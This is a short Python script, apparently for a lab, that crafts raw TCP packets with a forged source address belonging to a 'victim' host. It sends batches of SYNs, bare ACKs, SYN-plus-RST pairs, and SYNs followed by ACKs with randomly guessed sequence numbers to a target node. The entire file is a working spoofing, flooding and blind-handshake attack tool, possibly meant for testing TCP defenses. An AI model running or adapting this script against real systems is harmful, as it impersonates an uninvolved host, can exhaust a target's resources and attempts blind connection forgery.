"""Sends 300 SYNs, 300 bare ACKs, 300 SYN and RST, and 300 SYNs followed by an ACK of a guessed number, all in the victim's name."""
import random
import socket
import struct
import sys

NODE, VICTIM = "10.20.16.5", "10.20.16.66"
SYN, RST, ACK = 0x02, 0x04, 0x10


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def send(raw, source_port, flags, sequence, acknowledged):
    port = int(sys.argv[1])
    head = struct.pack("!HHIIBBHHH", source_port, port, sequence, acknowledged, 5 << 4, flags, 65535, 0, 0)
    pseudo = socket.inet_aton(VICTIM) + socket.inet_aton(NODE) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(head))
    head = head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
    packet = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(head), 0, 0, 64, socket.IPPROTO_TCP, 0, socket.inet_aton(VICTIM), socket.inet_aton(NODE))
    raw.sendto(packet + head, (NODE, 0))


random.seed(1)
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
    for i in range(300):
        send(raw, 20000 + i, SYN, 1000, 0)
        send(raw, 21000 + i, ACK, 1000, 77)
        send(raw, 22000 + i, SYN, 1000, 0)
        send(raw, 22000 + i, RST, 1001, 0)
        send(raw, 23000 + i, SYN, 1000, 0)
        send(raw, 23000 + i, ACK, 1001, random.getrandbits(32))
